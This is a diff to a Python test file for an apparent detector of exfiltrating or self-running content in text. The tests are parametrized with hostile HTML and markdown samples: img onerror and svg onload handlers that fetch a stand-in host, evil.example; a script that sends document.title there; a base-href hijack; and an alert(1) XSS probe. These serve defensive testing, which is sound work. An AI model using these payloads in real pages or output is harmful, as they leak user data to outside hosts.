@@ -53,6 +53,8 @@ def kinds(text, **options):
         '<img src="&#104;ttps://evil.example/a">',
         '<video poster="https://evil.example/a">',
         '<a href="https://docs.example.com/" ping="https://evil.example/a">x</a>',
+        "![a\\](b](https://evil.example/a)",
+        "<base href=https://evil.example/>",
     ],
 )
 def test_what_loads_by_itself_from_elsewhere_is_found(text):
@@ -266,3 +268,23 @@ def test_a_plain_link_that_is_read_whole_is_none(text):
 def test_it_knows_where_something_may_begin(text):
     assert Exfiltration().opened(f"It says {text} and so on.")
     assert not Exfiltration().opened("Up to ten days (of twenty) carry over: \u201cuntil March\u201d.")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<img src=x onerror=\"fetch('https://evil.example/a')\">",
+        "<svg onload=fetch('//evil.example/a')>",
+        "<svg/onload=alert(1)>",
+        "<script>new Image().src = '//evil.example/' + document.title</script>",
+    ],
+)
+def test_an_element_that_runs_by_itself_is_found(text):
+    assert kinds(text) == ["active_link"]
+
+
+@pytest.mark.parametrize(
+    "text", ["Add a <script> tag to the page.", "if a <b on=1", "a <b> once = more", "x < y on = z"]
+)
+def test_speaking_of_elements_is_none(text):
+    assert kinds(text) == []
